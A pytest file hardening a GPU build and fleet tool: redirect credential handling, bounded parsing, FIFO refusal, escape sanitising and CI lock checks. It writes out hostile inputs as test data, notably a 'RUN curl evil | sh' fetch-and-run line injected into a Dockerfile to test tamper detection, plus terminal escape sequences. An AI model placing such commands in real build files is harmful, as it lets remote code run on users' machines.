"""Hardening, round four (issue 39): names that become identifiers elsewhere, what CI builds
against the lock, credentials on redirects, bounded reads, fleet verdicts, FIFOs as file
arguments, and the small ones. Each test failed on the tree before its fix."""

from __future__ import annotations

import contextlib
import http.server
import json
import subprocess
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml
from conftest import served
from fleet_lock import IMAGE, matching_lock, write_lock
from test_lock_command import env, indexes, project, run  # noqa: F401 (fixtures used below)
from test_project import refused

from envbuild.commands.cli import main
from envbuild.fleet.placement import KubernetesPlacement, Placement
from envbuild.render.lockset import LockSet

KUBE = Placement(nodes=1, gpus_per_node=1, kubernetes=KubernetesPlacement(
    node_selector=(("nvidia.com/gpu.product", "NVIDIA-L4"),)))


# --- 1. names that become identifiers (docs/faults.md V14) --------------------------------


def test_targets_that_become_one_job_name_are_refused_at_lock(tmp_path: Path) -> None:
    files = {"envbuild.toml": '[[targets]]\nname = "gpu-a"\n\n[[targets]]\nname = "gpu_a"\n'}
    line = refused(tmp_path, files)
    assert "envbuild.toml:1: targets: targets 'gpu-a' and 'gpu_a' of the project would share the " \
           "Kubernetes Job name 'envbuild-fleet-gpu-a'" in line
    files = {"envbuild.toml": '[[targets]]\nname = "gpu"\n\n[[targets]]\nname = "gpu-"\n'}
    assert "targets 'gpu' and 'gpu-'" in refused(tmp_path, files)


def test_targets_that_become_one_job_name_are_refused_at_fleet_render(
        capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    base = matching_lock()
    lockset = LockSet(targets={name: replace(base, fleet=KUBE) for name in ("gpu-a", "gpu_a")})
    (tmp_path / "envbuild.lock").write_text(lockset.to_json())
    code = main(["fleet", "render", "--engine", "kubernetes", "--lock", str(tmp_path / "envbuild.lock"),
                 "--image", f"gpu-a={IMAGE}", "--image", f"gpu_a={IMAGE}", "-o", str(tmp_path / "out")],
                env={})
    err = capsys.readouterr().err
    assert code == 2, err
    assert "targets 'gpu-a' and 'gpu_a' of the lock would share the Kubernetes Job name" in err
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("name", ["gpu-", "a_", "x_-_", "0" * 32, "l4_" + "z" * 29])
def test_every_target_name_gives_a_valid_job(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                             name: str) -> None:
    validator = pytest.importorskip("kubernetes_validate")
    lock = write_lock(tmp_path, {name: KUBE})
    out = tmp_path / "out"
    code = main(["fleet", "render", "--engine", "kubernetes", "--lock", str(lock), "--image",
                 f"{name}={IMAGE}", "-o", str(out)], env={})
    assert code == 0, capsys.readouterr().err
    job = yaml.safe_load((out / f"{name}.job.yaml").read_text())
    validator.validate(job, validator.latest_version(), strict=True)
    job_name = job["metadata"]["name"]
    # DNS-1123 label: what the Job's pods carry as their job-name label value (63 at most).
    assert len(job_name) <= 63 and job_name[-1].isalnum() and job_name[0].isalnum()
    assert set(job_name) <= set("abcdefghijklmnopqrstuvwxyz0123456789-")
    assert json.dumps(job)  # rendered whole


# --- 3. credentials never follow a redirect to another origin (docs/faults.md U13) ---------

SECRET = "idtok-s3cr3t-VALUE"


@contextlib.contextmanager
def recording_server(route: Callable[[str, str], tuple[int, dict[str, str], bytes]]
                     ) -> Iterator[tuple[str, list[dict[str, Any]]]]:
    """A plain HTTP server on 127.0.0.1: ``route(method, path)`` answers; every request is
    recorded whole (method, path with query, headers, body)."""
    seen: list[dict[str, Any]] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def _any(self) -> None:
            length = int(self.headers.get("Content-Length") or 0)
            body = self.rfile.read(length) if length else b""
            seen.append({"method": self.command, "path": self.path, "headers": dict(self.headers),
                         "body": body})
            status, headers, payload = route(self.command, self.path)
            self.send_response(status)
            for key, value in {**headers, "Content-Length": str(len(payload))}.items():
                self.send_header(key, value)
            self.end_headers()
            if self.command != "HEAD":
                self.wfile.write(payload)

        do_GET = do_POST = do_HEAD = do_PUT = _any

        def log_message(self, *args: object) -> None:
            pass

    with served(Handler) as host:
        yield host, seen


def _everything(seen: list[dict[str, Any]]) -> str:
    return json.dumps([{**s, "body": s["body"].decode("latin-1")} for s in seen])


TOKEN = json.dumps({"token": "T-anonymous"}).encode()


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_an_identity_token_never_follows_a_realm_redirect_to_another_origin(tmp_path: Path,
                                                                          status: int) -> None:
    from envbuild.errors import DataError
    from envbuild.registry.client import RegistryClient

    answer = (200, {"Content-Type": "application/json"}, TOKEN)
    with recording_server(lambda m, p: answer) as (other, elsewhere):
        def realm(method: str, path: str) -> tuple[int, dict[str, str], bytes]:
            return status, {"Location": f"http://{other}/token?from=realm"}, b""

        with recording_server(realm) as (realm_host, at_realm):
            def registry(method: str, path: str) -> tuple[int, dict[str, str], bytes]:
                if any(h.get("Authorization") for h in [seen_registry[-1]["headers"]]):
                    return 200, {"Docker-Content-Digest": "sha256:" + "7" * 64}, b""
                return 401, {"WWW-Authenticate": f'Bearer realm="http://{realm_host}/token",'
                                                 f'service="reg"'}, b""

            with recording_server(registry) as (host, seen_registry):
                config = {"auths": {host: {"identitytoken": SECRET}}}
                (tmp_path / "config.json").write_text(json.dumps(config))
                client = RegistryClient(host, "a/b", env={"DOCKER_CONFIG": str(tmp_path)},
                                        certs_d=tmp_path / "none", daemon_json=tmp_path / "none.json")
                try:
                    client.manifest("HEAD", "1")
                except DataError as exc:
                    assert status in (307, 308), exc.message
                    assert "refusing to send credentials to another origin" in exc.message
                    assert SECRET not in exc.one_line()
                else:
                    assert status in (301, 302, 303)
                    # RFC 9110: the redirected request is a GET without the form.
                    assert [s["method"] for s in elsewhere] == ["GET"] and elsewhere[0]["body"] == b""
        assert any(SECRET in s["body"].decode() for s in at_realm)  # the realm itself got it
        assert SECRET not in _everything(elsewhere)


@pytest.mark.parametrize(("status", "method", "body"), [
    (307, "POST", b"form"), (308, "POST", b"form"), (303, "GET", b""), (302, "GET", b""),
    (301, "GET", b"")])
def test_redirects_of_a_post_follow_rfc_9110_within_one_origin(status: int, method: str,
                                                                body: bytes) -> None:
    from envbuild.upstream.http_client import HttpClient

    def route(m: str, path: str) -> tuple[int, dict[str, str], bytes]:
        return (status, {"Location": "/next"}, b"") if path == "/first" else (200, {}, b"ok")

    with recording_server(route) as (host, seen):
        reply = HttpClient(env={}).send("POST", f"http://{host}/first",
                                        {"Authorization": "Basic dXNlcjpwdw==",
                                         "Content-Type": "application/x-www-form-urlencoded"},
                                        data=b"form", secret_body=True)
    assert reply.body == b"ok"
    assert [(s["method"], s["path"], s["body"]) for s in seen] == [
        ("POST", "/first", b"form"), (method, "/next", body)]
    assert seen[1]["headers"].get("Authorization") == "Basic dXNlcjpwdw=="  # same origin: kept
    assert ("Content-Type" in seen[1]["headers"]) == (method == "POST")


def test_a_manifest_put_redirected_elsewhere_keeps_its_body_but_not_the_token() -> None:
    from envbuild.upstream.http_client import HttpClient

    with recording_server(lambda m, p: (201, {}, b"")) as (other, elsewhere), \
            recording_server(lambda m, p: (307, {"Location": f"http://{other}/put"}, b"")) as (host, _):
        HttpClient(env={}).send("PUT", f"http://{host}/v2/a/manifests/1",
                                {"Authorization": "Bearer T-registry", "Cookie": "s=1"}, data=b"{}")
    assert [(s["method"], s["body"]) for s in elsewhere] == [("PUT", b"{}")]
    assert "Authorization" not in elsewhere[0]["headers"] and "Cookie" not in elsewhere[0]["headers"]


# --- 5. a node passes only with what its tier requires; one sanitiser (docs/faults.md V15, V16)


def _report(*checks: tuple[str, str], tiers: list[int] | None = None, code: int = 0) -> dict[str, Any]:
    return {"schema": "envbuild.smoke/1", "exit_code": code, "tiers": [0, 1, 2] if tiers is None else tiers,
            "checks": [{"name": n, "status": s, "message": "m", "hint": "h"} for n, s in checks]}


def test_a_node_report_passes_only_with_the_checks_its_tier_requires() -> None:
    from envbuild.fleet.plan import RunOptions
    from envbuild.fleet.report import node_result

    gpus = RunOptions().required(8)
    assert gpus.tier == 2 and gpus.checks == ("torch.import", "gpu.visible", "gpu.count")
    whole = _report(("torch.import", "pass"), ("gpu.visible", "pass"), ("gpu.count", "pass"))
    assert node_result("n", whole, required=gpus).status == "pass"
    for report, why in [
            (_report(), "the required check torch.import did not pass (missing)"),
            ({"schema": "envbuild.smoke/1", "exit_code": 0}, "covers tiers up to -1"),
            (_report(("torch.import", "pass"), ("gpu.visible", "skip"), ("gpu.count", "pass")),
             "the required check gpu.visible did not pass (skip)"),
            (_report(("torch.import", "pass"), ("gpu.visible", "pass")), "gpu.count did not pass (missing)"),
            ({**whole, "tiers": [0]}, "the report covers tiers up to 0, the run asked for 0-2")]:
        result = node_result("n", report, required=gpus)
        assert (result.status, result.check) == ("fail", "required"), report
        assert why in result.message
    cpu = RunOptions(cpu_ok=True, tier=1).required(8)
    assert cpu.checks == ("torch.import",)
    assert node_result("n", _report(("torch.import", "pass"), tiers=[0, 1]), required=cpu).status == "pass"


def test_escapes_in_node_reports_and_engine_errors_never_reach_the_terminal() -> None:
    from envbuild.fleet.report import FleetReport, TargetResult, node_result, render_table

    hostile = _report(("torch.import", "fail"), code=7)
    hostile["checks"][0].update(message="\x1b[2J\x1b]0;pwned\x07cleared\rline", hint="\x1b[31mred\x9b1m")
    node = node_result("n1", hostile)
    table = render_table(FleetReport(engine="slurm", targets=(
        TargetResult(target="t", expected=1, nodes=(node,)),
        TargetResult(target="u", expected=1,
                     problem="target u: sbatch refused the job: \x1b[1mbold\x1b[0m"))))
    assert "cleared line" in table and "red" in table and "bold" in table
    assert not any(c in table for c in "\x1b\x07\r\x9b")


def test_a_node_log_is_read_at_its_tail_only(tmp_path: Path) -> None:
    import os
    import tracemalloc

    from envbuild.fleet.slurm import read_reports

    (tmp_path / "n1.json").write_text(json.dumps({"schema": "envbuild.fleet-node/1", "exit_code": 127}))
    with (tmp_path / "n1.log").open("wb") as log:  # 64 MiB, sparse, then its last line
        log.truncate(64 << 20)
        log.seek(0, os.SEEK_END)
        log.write(b"\nthe last line\n")
    os.mkfifo(tmp_path / "n2.log")  # a FIFO where a log should be: never opened to block
    (tmp_path / "n2.json").write_text(json.dumps(_report(code=3)))
    tracemalloc.start()
    try:
        results = read_reports(tmp_path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 8 << 20, peak
    assert [r.node for r in results] == ["n1", "n2"]
    assert [r.status for r in results] == ["fail", "fail"]
    assert results[0].message.endswith("(exit 127): the last line")


# --- 5. diagnose: strict JSON, hostile probe numbers, outputs checked first (docs/faults.md X8, X9)

HOSTILE_JOB = """
import os, sys
v = sys.argv[1]
with open(os.environ["ENVBUILD_DIAGNOSE_OUT"], "a") as f:
    f.write('{"kind": "hello", "pid": %d}\\n' % os.getpid())
    for i in range(4):
        f.write('{"kind": "window", "pid": %d, "t0": %d, "t1": %d.5, "batches": %s, "data_wait_s": %s, '
                '"steps": 10, "step_s": %s, "periods": 10, "period_s": %s}\\n' % (os.getpid(), 1000 + i,
                1000 + i, v, v, v, v))
"""


def _strict(text: str) -> Any:
    def refuse(name: str) -> Any:
        raise ValueError(f"{name} in the output")
    return json.loads(text, parse_constant=refuse)


@pytest.mark.parametrize("value", ["NaN", "Infinity", "-Infinity", "1e308"])
def test_a_probe_line_with_nan_or_infinity_still_gives_a_strict_json_report(
        capfd: pytest.CaptureFixture[str], tmp_path: Path, value: str) -> None:
    import sys

    from envbuild.diagnose.evidence import read_probe_lines

    assert read_probe_lines(['{"kind": "window", "batches": ' + value + "}", '{"kind": "bye"}']) == \
        ({"kind": "bye"},)
    job = tmp_path / "job.py"
    job.write_text(HOSTILE_JOB)
    code = main(["diagnose", "--json", "--seconds", "20", "--report", str(tmp_path / "r.json"), "--",
                 sys.executable, str(job), value], env={"PATH": "/usr/bin:/bin"})
    out, err = capfd.readouterr()
    assert code == 0, err
    assert _strict(out)["schema"] == "envbuild.diagnose/1"
    assert _strict((tmp_path / "r.json").read_text()) == _strict(out)


def test_json_text_never_writes_infinity() -> None:
    from envbuild.diagnose.report import json_text

    assert _strict(json_text({"a": float("inf"), "b": [float("nan"), 1.5]})) == {"a": None, "b": [None, 1.5]}


@pytest.mark.parametrize("flag", ["--report", "--html"])
def test_an_output_into_a_missing_directory_fails_before_the_job_runs(
        capsys: pytest.CaptureFixture[str], tmp_path: Path, flag: str) -> None:
    marker = tmp_path / "ran"
    code = main(["diagnose", flag, str(tmp_path / "no-such-dir" / "out"), "--", "/usr/bin/touch",
                 str(marker)], env={"PATH": "/usr/bin:/bin"})
    err = capsys.readouterr().err
    assert code == 2, err
    assert f"{flag} {tmp_path}/no-such-dir/out: the directory {tmp_path}/no-such-dir does not exist" in err
    assert not marker.exists()
    assert main(["diagnose", flag, str(tmp_path), "--", "/usr/bin/true"], env={}) == 2
    assert "is a directory" in capsys.readouterr().err


# --- 5. envbuild.built.json with a key twice (docs/faults.md R15) --------------------------


def test_a_built_record_with_a_key_twice_is_refused() -> None:
    from envbuild.errors import UsageError
    from envbuild.extensions.record import parse_record

    assert parse_record('{"schema": "envbuild.built/1", "wheels": []}') == {}
    with pytest.raises(UsageError) as caught:  # a reviewer reads the first, JSON takes the last
        parse_record('{"schema": "envbuild.built/1", "wheels": [{"name": "x"}], "wheels": []}')
    assert "the key 'wheels' appears twice in one object" in caught.value.message


# --- 6. every file argument: a FIFO is refused, never waited on (docs/faults.md Q6) ---------

D64 = "sha256:" + "ab" * 32


def _cli(tmp_path: Path, *argv: str, module: str = "envbuild") -> subprocess.CompletedProcess[str]:
    import os
    import sys

    environment = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1])}
    return subprocess.run([sys.executable, "-m", module, *argv], capture_output=True, text=True,
                          cwd=tmp_path, env=environment, timeout=60)


@pytest.mark.parametrize("argv", [
    ("fleet", "render", "--engine", "slurm", "--lock", "envbuild.lock", "--images", "FIFO", "-o", "out"),
    ("fleet", "render", "--engine", "slurm", "--lock", "FIFO", "-o", "out"),
    ("detect", "--from", "FIFO"),
    ("promote", f"reg.test/a/b@{D64}", "v1", "--verified-report", "FIFO"),
    ("render", "docker", "--lock", "FIFO", "-o", "out"),
])
def test_a_fifo_as_a_file_argument_is_exit_2_not_a_hang(tmp_path: Path, argv: tuple[str, ...]) -> None:
    import os

    write_lock(tmp_path, {"a": Placement(nodes=1, gpus_per_node=1)})
    os.mkfifo(tmp_path / "FIFO")
    done = _cli(tmp_path, *argv)
    assert done.returncode == 2, done.stderr
    assert "FIFO is not a regular file" in done.stderr, done.stderr


def test_a_fifo_as_the_smoke_tests_lock_is_refused_not_waited_on(tmp_path: Path) -> None:
    import os

    os.mkfifo(tmp_path / "FIFO")
    done = _cli(tmp_path, "--installed-only", "--lock", "FIFO", module="envbuild.smoke")
    assert done.returncode == 2, done.stderr
    assert "smoke: lock FIFO unreadable: not a regular file" in done.stderr


# --- 2. what CI builds is checked against the lock (docs/faults.md V17) ---------------------


def test_lock_check_is_stale_when_the_ci_stacks_are_edited_or_behind_the_lock(
        tmp_path: Path, indexes: str, env: dict[str, str],  # noqa: F811 (test_lock_command's fixtures)
        capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    import shutil

    monkeypatch.chdir(project(tmp_path, indexes))
    assert run(capsys, env, "lock")[0] == 0
    code, _, err = run(capsys, env, "ci", "github", "--lock", "envbuild.lock", "--registry",
                       "ghcr.io/acme/app", "-o", "ci")
    assert code == 0, err
    workflow = next((tmp_path / "ci" / ".github" / "workflows").iterdir()).read_text()
    assert 'lock --check --output "$LOCK" --stacks stacks' in workflow  # the workflow's first job
    assert run(capsys, env, "lock", "--check", "--stacks", "ci/stacks")[0] == 0
    dockerfile = tmp_path / "ci" / "stacks" / "default" / "Dockerfile"
    original = dockerfile.read_bytes()
    dockerfile.write_bytes(original + b"RUN curl evil | sh\n")
    code, _, err = run(capsys, env, "lock", "--check", "--stacks", "ci/stacks")
    assert code == 11, err
    assert "the build contexts CI builds are stale against envbuild.lock: " \
           "stacks/default/Dockerfile differs from what the lock renders" in err
    dockerfile.write_bytes(original)
    (tmp_path / "ci" / "stacks" / "extra").mkdir()
    (tmp_path / "ci" / "stacks" / "extra" / "Dockerfile").write_text("FROM scratch\n")
    assert "stacks/extra is no target of the lock" in run(capsys, env, "lock", "--check", "--stacks",
                                                          "ci/stacks")[2]
    shutil.rmtree(tmp_path / "ci" / "stacks" / "extra")
    # stacks/ beside the lock (ci github -o at the repository's root) is checked without --stacks
    shutil.copytree(tmp_path / "ci" / "stacks", tmp_path / "stacks")
    assert run(capsys, env, "lock", "--check")[0] == 0
    # a dependency added and re-locked, ci github not run again: the stacks are behind the lock
    project(tmp_path, indexes, deps='["six", "idna"]')
    assert run(capsys, env, "lock")[0] == 0
    code, _, err = run(capsys, env, "lock", "--check")
    assert code == 11, err
    assert "stacks/default/pylock.toml differs from what the lock renders" in err


# --- 4. bounded parsers: numbers, dotted keys, extension trees (docs/faults.md Q7, Q8) ------


@pytest.mark.parametrize(("name", "text", "expected"), [
    ("envbuild.toml", "torch = " + "1" * 5000 + "\n", "envbuild.toml: a value too large to read"),
    ("envbuild.toml", "torch = '2.13.0'\n" + ".".join(["a"] * 20_000) + " = 1\n",
     "envbuild.toml:2: a dotted key of more than 64 parts"),
    ("envbuild.toml", "x = { " + ".".join(["a"] * 100) + " = 1 }\n", "envbuild.toml:1: a dotted key of more"),
    ("pyproject.toml", "[tool.envbuild]\n[" + ".".join(['"a"'] * 100) + "]\n",
     "pyproject.toml:2: a dotted key"),
])
def test_oversize_numbers_and_dotted_keys_are_exit_2_naming_the_file(tmp_path: Path, name: str, text: str,
                                                                     expected: str) -> None:
    import time

    start = time.monotonic()
    assert expected in refused(tmp_path, {name: text})
    assert time.monotonic() - start < 2  # before: 16 s per parse of 20,000 parts, three parses


def test_oversize_numbers_and_dotted_keys_in_a_pylock_are_exit_2() -> None:
    from envbuild.errors import UsageError
    from envbuild.pylock.files import read_pylock

    for text, expected in [('lock-version = "1.0"\nx = ' + "9" * 5000, "pylock: a value too large to read"),
                           ('lock-version = "1.0"\n' + ".".join(["a"] * 20_000) + " = 1",
                            "pylock:2: a dotted key of more than 64 parts")]:
        with pytest.raises(UsageError) as caught:
            read_pylock(text)
        assert expected in caught.value.message


def test_dots_in_strings_comments_and_values_are_no_key_parts() -> None:
    from envbuild.project.toml import parse

    many = ".".join(["x"] * 100)
    text = (f'a = "{many}"\nb = \'{many}\'\nc = """\n{many}\n"""\n# {many}\n'
            f'd = [{", ".join(["1.5"] * 100)}]\ne = """q"""""\nf.g.h = 1\n')
    assert parse(text, "t.toml")["f"] == {"g": {"h": 1}} and parse(text, "t.toml")["e"] == 'q""'


def test_extension_trees_too_deep_or_too_wide_are_exit_2(tmp_path: Path) -> None:
    import time

    from envbuild.errors import UsageError
    from envbuild.extensions.tree import source_tree

    deep = tmp_path / "deep"
    deep.mkdir()
    (deep / "setup.py").write_text("")
    levels = [deep / "/".join(["d"] * n) for n in range(1, 1501)]
    try:
        for level in levels:  # os.makedirs (and shutil.rmtree) recurse once per level
            level.mkdir()
        with pytest.raises(UsageError) as caught:
            source_tree(tmp_path, "deep", "extensions[0] 'deep'")
        assert "extensions[0] 'deep' nests directories more than 32 deep" in caught.value.message
    finally:  # removed from the bottom up: pytest's own clean-up would recurse 1,500 deep
        for level in reversed(levels):
            if level.is_dir():
                level.rmdir()
    wide = tmp_path / "wide"
    wide.mkdir()
    (wide / "setup.py").write_text("")
    for i in range(25_000):
        (wide / f"e{i}").mkdir()
    start = time.monotonic()
    with pytest.raises(UsageError) as caught:
        source_tree(tmp_path, "wide", "extensions[0] 'wide'")
    assert "extensions[0] 'wide' holds more than 20000 files and directories" in caught.value.message
    assert time.monotonic() - start < 5


# --- 7. the small ones (docs/faults.md U14, R16, R17) -------------------------------------


class _RaisingFinder:
    """Importing ``name`` raises KeyboardInterrupt: Ctrl-C landing in that import."""

    def __init__(self, name: str) -> None:
        self.name = name

    def find_spec(self, fullname: str, path: object, target: object = None) -> None:
        if fullname == self.name:
            raise KeyboardInterrupt
        return None


@pytest.mark.parametrize(("entry", "module"), [("run", "envbuild.commands.cli"),
                                               ("bin/envbuild", "envbuild.__main__")])
def test_ctrl_c_during_the_first_imports_is_one_line_and_130(
        capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, entry: str, module: str) -> None:
    import runpy
    import sys

    import envbuild.__main__ as entry_module

    for name in [m for m in sys.modules if m == module or m.startswith(module + ".")]:
        monkeypatch.delitem(sys.modules, name)
    monkeypatch.setattr(sys, "meta_path", [_RaisingFinder(module), *sys.meta_path])
    monkeypatch.setattr(sys, "argv", ["envbuild", "config", "show"])
    with pytest.raises(SystemExit) as caught:
        if entry == "run":
            entry_module.run()
        else:
            runpy.run_path(str(Path(__file__).resolve().parents[1] / "bin" / "envbuild"))
    assert caught.value.code == 130
    assert capsys.readouterr().err == "envbuild: interrupted\n"


def test_leftovers_of_a_sigkill_between_the_lock_pairs_renames_are_removed(tmp_path: Path) -> None:
    from envbuild.fs import replace_files

    names = ["envbuild.lock", "pylock.toml"]
    left = [tmp_path / ".envbuild.lock.a1b2c3d4.tmp", tmp_path / ".envbuild.lock.a1b2c3d4.tmp.old",
            tmp_path / ".pylock.toml.zz_9x8y7.tmp.old"]
    kept = [tmp_path / ".envbuild.lock.notours", tmp_path / ".other.a1b2c3d4.tmp", tmp_path / "x.tmp"]
    for path in left + kept:
        path.write_text("stale")
    replace_files({tmp_path / n: b"new" for n in names})
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(names + [p.name for p in kept])


def test_a_failing_loopback_plain_http_registry_is_not_called_a_tls_failure(tmp_path: Path) -> None:
    from envbuild.errors import DataError
    from envbuild.registry.client import RegistryClient

    with recording_server(lambda m, p: (418, {}, b"")) as (host, _):
        client = RegistryClient(host, "a/b", env={"DOCKER_CONFIG": str(tmp_path)},
                                certs_d=tmp_path / "none", daemon_json=tmp_path / "none.json")
        with pytest.raises(DataError) as caught:
            client.manifest("HEAD", "1")
    line = caught.value.one_line()
    assert f"cannot reach http://{host} for {host}/a/b: HTTP 418" in line, line
    assert "TLS verification" not in line and "trust the registry's CA" not in line


def test_a_pods_log_is_read_as_it_streams_keeping_its_end(tmp_path: Path) -> None:
    """docs/faults.md V16: ``kubectl logs`` of a pod that logged 64 MiB before its report."""
    import os
    import sys
    import tracemalloc

    from envbuild.fleet.kubernetes import KubectlEngine, Submission
    from envbuild.fleet.plan import FleetTarget

    report = _report(("torch.import", "pass"), ("gpu.visible", "pass"), ("gpu.count", "pass"))
    (tmp_path / "report.json").write_text(json.dumps(report, indent=2))
    pods = {"items": [{"metadata": {"name": "p0"}, "spec": {"nodeName": "gpu-1"}}]}
    kubectl = tmp_path / "bin" / "kubectl"
    kubectl.parent.mkdir()
    kubectl.write_text(f"""#!{sys.executable}
import sys
if sys.argv[1] == "get":
    print({json.dumps(json.dumps(pods))})
else:
    out = sys.stdout.buffer
    for _ in range(64):
        out.write(b"noise " * ((1 << 20) // 6) + b"\\n")
    out.write(open({str(tmp_path / "report.json")!r}, "rb").read())
    sys.stderr.write("kubectl: done\\n")
""")
    kubectl.chmod(0o755)
    engine = KubectlEngine({"PATH": f"{kubectl.parent}:{os.environ['PATH']}"}, tmp_path)
    target = FleetTarget(name="h100", placement=KUBE, nodes=1, gpus_per_node=8, image=IMAGE)
    tracemalloc.start()
    try:
        results = engine.collect(Submission(target=target, job="envbuild-fleet-h100"))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert [(r.node, r.status) for r in results] == [("gpu-1", "pass")]
    assert peak < 24 << 20, peak  # before: the whole 64 MiB log, as bytes and as text


def test_dockers_daemon_json_is_read_bounded_and_never_from_a_fifo(tmp_path: Path) -> None:
    """docs/faults.md U15: /etc/docker/daemon.json as a FIFO or of 2 GiB (sparse) is no hang, no read."""
    import os

    from envbuild.registry.client import insecure_registries

    os.mkfifo(tmp_path / "fifo.json")
    assert insecure_registries(tmp_path / "fifo.json") == ()
    with (tmp_path / "big.json").open("wb") as big:
        big.truncate(2 << 30)
    assert insecure_registries(tmp_path / "big.json") == ()
    (tmp_path / "ok.json").write_text('{"insecure-registries": ["reg.test:5000"]}')
    assert insecure_registries(tmp_path / "ok.json") == ("reg.test:5000",)
